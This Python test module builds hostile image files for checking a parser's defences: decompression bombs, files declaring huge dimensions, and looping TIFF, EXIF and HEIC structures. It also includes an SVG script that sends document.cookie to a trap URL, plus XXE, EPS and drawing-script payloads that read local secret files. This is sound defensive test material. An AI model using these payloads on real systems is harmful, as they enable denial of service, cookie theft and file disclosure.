"""Pictures that are far larger than their files, never end, or carry something else."""

import struct

from PIL import Image

from tests.corpus.formats import png, tiff, zeros
from tests.corpus.formats.boxes import box, ftyp, full
from tests.corpus.formats.tiff import Field
from tests.corpus.formats.zeros import GIB, MIB
from tests.corpus.good import pictures
from tests.corpus.items import BRIEF, COMPLETED, hostile
from tests.corpus.trap import Trap

UNREADABLE = "unreadable"


@hostile(
    "a PNG of a hundred megapixels in 100 KiB", "picture.png", COMPLETED, warnings=("so many pixels are not decoded",)
)
def vast_png() -> bytes:
    made = png.SIGNATURE + png.header(10_000, 10_000) + png.rows(10_000, 10_000) + png.chunk(b"IEND")
    assert len(made) < 100 * 1024
    return made


@hostile("a PNG of 2^31 - 1 pixels a side", "picture.png", COMPLETED, warnings=("so many pixels are not decoded",))
def vaster_png() -> bytes:
    return png.SIGNATURE + png.header(2**31 - 1, 2**31 - 1) + png.rows(10, 10) + png.chunk(b"IEND")


@hostile("a PNG with a text of 64 MiB", "picture.png", COMPLETED)
def long_text() -> bytes:
    return png.picture(png.chunk(b"iTXt", b"Comment\0\0\0\0\0" + b"a" * (64 * MIB)))


@hostile("a PNG whose compressed text is a gigabyte", "picture.png", UNREADABLE)
def text_bomb() -> bytes:
    return png.picture(png.chunk(b"zTXt", b"Comment\0\0" + zeros.packed(GIB)))


@hostile("a PNG whose colour profile is a gigabyte", "picture.png", UNREADABLE)
def profile_bomb() -> bytes:
    return png.picture(png.chunk(b"iCCP", b"profile\0\0" + zeros.packed(GIB)))


@hostile("a PNG of half a million empty chunks", "picture.png", COMPLETED)
def many_chunks() -> bytes:
    return png.picture(png.chunk(b"teXt") * 500_000)


@hostile("a PNG that promises 2^31 frames", "picture.apng", COMPLETED)
def endless_apng() -> bytes:
    return png.picture(png.chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0)))


@hostile("a GIF of 100000 frames", "picture.gif", COMPLETED)
def many_frames() -> bytes:
    head = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + bytes(6)
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\0"
    return head + frame * 100_000 + b"\x3b"


@hostile("a GIF of 65535 pixels a side", "picture.gif", COMPLETED, warnings=("so many pixels are not decoded",))
def vast_gif() -> bytes:
    head = b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0) + bytes(6)
    return head + b"\x2c" + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0) + b"\x02\x02\x44\x01\0\x3b"


@hostile("a TIFF whose directories lead back to the first", "scan.tiff", COMPLETED)
def looping_tiff() -> bytes:
    fields = tiff.grey(4, 4, 8 + 2 + 9 * 12 + 4)
    return tiff.head() + tiff.directory(fields, following=8) + bytes(16)


@hostile("a TIFF of 20000 directories", "scan.tiff", COMPLETED)
def many_directories() -> bytes:
    length = len(tiff.directory(tiff.grey(4, 4, 8)))
    parts = [tiff.head(24), bytes(16)]
    parts += [tiff.directory(tiff.grey(4, 4, 8), following=24 + length * n) for n in range(1, 20_000)]
    return b"".join([*parts, tiff.directory(tiff.grey(4, 4, 8))])


@hostile("a TIFF with a field of 2^32 - 1 values", "scan.tiff", COMPLETED)
def endless_field() -> bytes:
    fields = [*tiff.grey(4, 4, 200), Field(270, tiff.ASCII, 2**32 - 1, 8), Field(700, tiff.BYTE, 2**32 - 1, 8)]
    return (tiff.head() + tiff.directory(fields)).ljust(300, b"\0")


@hostile("a TIFF of 2^32 - 1 pixels a side", "scan.tiff", COMPLETED, warnings=("so many pixels are not decoded",))
def vast_tiff() -> bytes:
    return (tiff.head() + tiff.directory(tiff.grey(2**32 - 1, 2**32 - 1, 8))).ljust(300, b"\0")


@hostile("a JPEG of 65535 pixels a side", "photo.jpg", COMPLETED, warnings=("so many pixels are not decoded",))
def vast_jpeg() -> bytes:
    whole = bytearray(pictures.grey())
    place = whole.index(b"\xff\xc0") + 5
    whole[place : place + 4] = b"\xff\xff\xff\xff"
    return bytes(whole)


@hostile("a progressive JPEG of 5000 scans", "photo.jpg", UNREADABLE, COMPLETED, "parser_timeout", limits=BRIEF)
def many_scans() -> bytes:
    whole = pictures.saved("JPEG", pictures.shades(1, "L", (4000, 4000)), progressive=True)
    last = whole.rindex(b"\xff\xda")
    return whole[:last] + whole[last:-2] * 5000 + b"\xff\xd9"


@hostile("a JPEG with a colour profile of 16 MiB", "photo.jpg", COMPLETED)
def giant_profile() -> bytes:
    whole = pictures.grey()
    part = b"ICC_PROFILE\0%c\xff" + b"p" * 65_000
    parts = b"".join(
        b"\xff\xe2" + struct.pack(">H", len(part) + 1) + part.replace(b"%c", bytes([n])) for n in range(1, 256)
    )
    return whole[:2] + parts + whole[2:]


@hostile("a JPEG whose EXIF leads back to itself", "photo.jpg", COMPLETED)
def looping_exif() -> bytes:
    whole = pictures.grey()
    fields = [Field(0x8769, tiff.LONG, 1, 8), Field(0x8825, tiff.LONG, 1, 8), Field(0xA005, tiff.LONG, 1, 8)]
    exif = b"Exif\0\0" + tiff.head() + tiff.directory(fields, following=8)
    return whole[:2] + b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + whole[2:]


@hostile("a JPEG whose EXIF holds a string of 2^32 - 1 bytes", "photo.jpg", COMPLETED)
def giant_exif() -> bytes:
    whole = pictures.grey()
    fields = [Field(0x010F, tiff.ASCII, 2**32 - 1, 8), Field(0x0112, tiff.SHORT, 2**31, 0)]
    exif = b"Exif\0\0" + tiff.head() + tiff.directory(fields)
    return whole[:2] + b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + whole[2:]


@hostile("a JPEG whose EXIF names a maker in control characters", "photo.jpg", COMPLETED)
def maker_of_controls() -> bytes:
    facts = Image.Exif()
    facts[0x010F], facts[0x0110] = "\x1b[2Jmaker\u202e", "\x07" * 300
    return pictures.saved("JPEG", pictures.shades(1), exif=facts)


@hostile(
    "a bitmap that promises 2^31 - 1 pixels a side",
    "picture.bmp",
    COMPLETED,
    warnings=("so many pixels are not decoded",),
)
def lying_bmp() -> bytes:
    facts = struct.pack("<IiiHHIIiiII", 40, 2**31 - 1, 2**31 - 1, 1, 32, 0, 0, 0, 0, 0, 0)
    return b"BM" + struct.pack("<IHHI", 2**32 - 1, 0, 0, 54) + facts + bytes(100)


@hostile("a bitmap whose run lengths never end", "picture.bmp", UNREADABLE)
def looping_bmp() -> bytes:
    facts = struct.pack("<IiiHHIIiiII", 40, 4000, 4000, 1, 8, 1, 0, 0, 0, 256, 0)
    runs = b"\0\2\0\0" * 500_000
    return b"BM" + struct.pack("<IHHI", 54 + 1024 + len(runs), 0, 0, 54 + 1024) + facts + bytes(1024) + runs


@hostile("an icon of 65535 pictures in one place", "favicon.ico", UNREADABLE)
def crowded_icon() -> bytes:
    entry = struct.pack("<BBBBHHII", 0, 0, 0, 0, 1, 32, 2**31, 6)
    return struct.pack("<HHH", 0, 1, 65535) + entry * 65535


@hostile("an icon that holds a vast PNG", "favicon.ico", UNREADABLE)
def vast_icon() -> bytes:
    inner = png.SIGNATURE + png.header(30_000, 30_000) + png.rows(30_000, 300) + png.chunk(b"IEND")
    return struct.pack("<HHH", 0, 1, 1) + struct.pack("<BBBBHHII", 0, 0, 0, 0, 1, 32, len(inner), 22) + inner


@hostile("a WebP of 16383 pixels a side in a few bytes", "picture.webp", UNREADABLE)
def vast_webp() -> bytes:
    facts = b"\x2f" + (16382 | 16382 << 14).to_bytes(4, "little") + bytes(20)
    body = b"WEBPVP8L" + struct.pack("<I", len(facts)) + facts + b"\0" * (len(facts) % 2)
    return b"RIFF" + struct.pack("<I", len(body)) + body


@hostile("a JPEG 2000 of 2^31 pixels a side in tiles of one", "picture.jp2", UNREADABLE)
def tiled_jpeg2000() -> bytes:
    whole = bytearray(pictures.jpeg2000())
    place = whole.index(b"\xff\x51") + 6
    whole[place : place + 32] = struct.pack(">8I", 2**31, 2**31, 0, 0, 1, 1, 0, 0)
    return bytes(whole)


@hostile("an AVIF of 2^31 pixels a side", "picture.avif", UNREADABLE)
def vast_avif() -> bytes:
    whole = bytearray(pictures.avif())
    place = whole.index(b"ispe") + 8
    whole[place : place + 8] = struct.pack(">II", 2**31 - 1, 2**31 - 1)
    return bytes(whole)


@hostile("a HEIC whose tiles refer to each other in a circle", "photo.heic", UNREADABLE)
def looping_heic() -> bytes:
    names = [full(b"infe", struct.pack(">HH", n, 0), b"grid\0", version=2) for n in (1, 2)]
    links = full(b"iref", *(box(b"dimg", struct.pack(">HHH", a, 1, b)) for a, b in ((1, 2), (2, 1))))
    places = full(b"iloc", struct.pack(">BBH", 0x44, 0, 2), *(struct.pack(">HHHII", n, 0, 1, 0, 8) for n in (1, 2)))
    handler = full(b"hdlr", bytes(4), b"pict", bytes(12), b"\0")
    listed = full(b"iinf", struct.pack(">H", 2), *names)
    return ftyp(b"heic", b"mif1") + full(b"meta", handler, full(b"pitm", b"\0\1"), places, listed, links)


@hostile("a HEIC that lists 65535 pictures without places", "photo.heic", UNREADABLE)
def crowded_heic() -> bytes:
    names = b"".join(full(b"infe", struct.pack(">HH", n, 0), b"hvc1\0", version=2) for n in range(1, 65536))
    handler = full(b"hdlr", bytes(4), b"pict", bytes(12), b"\0")
    return ftyp(b"heic", b"mif1") + full(b"meta", handler, full(b"pitm", b"\0\1"), full(b"iinf", b"\xff\xff", names))


@hostile("an SVG with a script", "drawing.svg", "active_content", declared_type="image/svg+xml")
def script_in_svg(trap: Trap) -> bytes:
    script = f"<script>fetch('{trap.url}/' + document.cookie)</script>"
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{script}</svg>'.encode()


@hostile("an SVG that refers elsewhere", "drawing.svg", "active_content", declared_type="image/svg+xml")
def references_in_svg(trap: Trap) -> bytes:
    links = (
        f'<image xlink:href="{trap.url}/1.png"/><image href="file://{trap.secret}"/><use href="{trap.url}/2.svg#a"/>'
    )
    style = f'<style>@import url("{trap.url}/3.css");</style>'
    names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f"<?xml-stylesheet href='{trap.url}/4.xsl'?><svg {names}>{style}{links}</svg>".encode()


@hostile("an SVG whose entity is a local file", "drawing.svg", "active_content")
def entity_in_svg(trap: Trap) -> bytes:
    entity = f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{trap.secret}">]>'
    return f'<?xml version="1.0"?>{entity}<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'.encode()


@hostile("an SVG of 10^9 uses of one shape", "drawing.svg", COMPLETED)
def uses_in_svg() -> bytes:
    groups = "".join(f'<g id="a{n}">{f"<use href={chr(34)}#a{n - 1}{chr(34)}/>" * 10}</g>' for n in range(1, 10))
    return f'<svg xmlns="http://www.w3.org/2000/svg"><g id="a0"><rect/></g>{groups}</svg>'.encode()


@hostile("an EPS that would run a command", "picture.eps", COMPLETED)
def command_in_eps(trap: Trap) -> bytes:
    return f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n({trap.secret}) (r) file 99 string readstring\n".encode()


@hostile("a drawing script that reads a file", "picture.jpg", "content_mismatch", declared_type="image/jpeg")
def drawing_script(trap: Trap) -> bytes:
    return f"push graphic-context\nimage over 0,0 0,0 'label:@{trap.secret}'\nfill 'url({trap.url})'\n".encode()
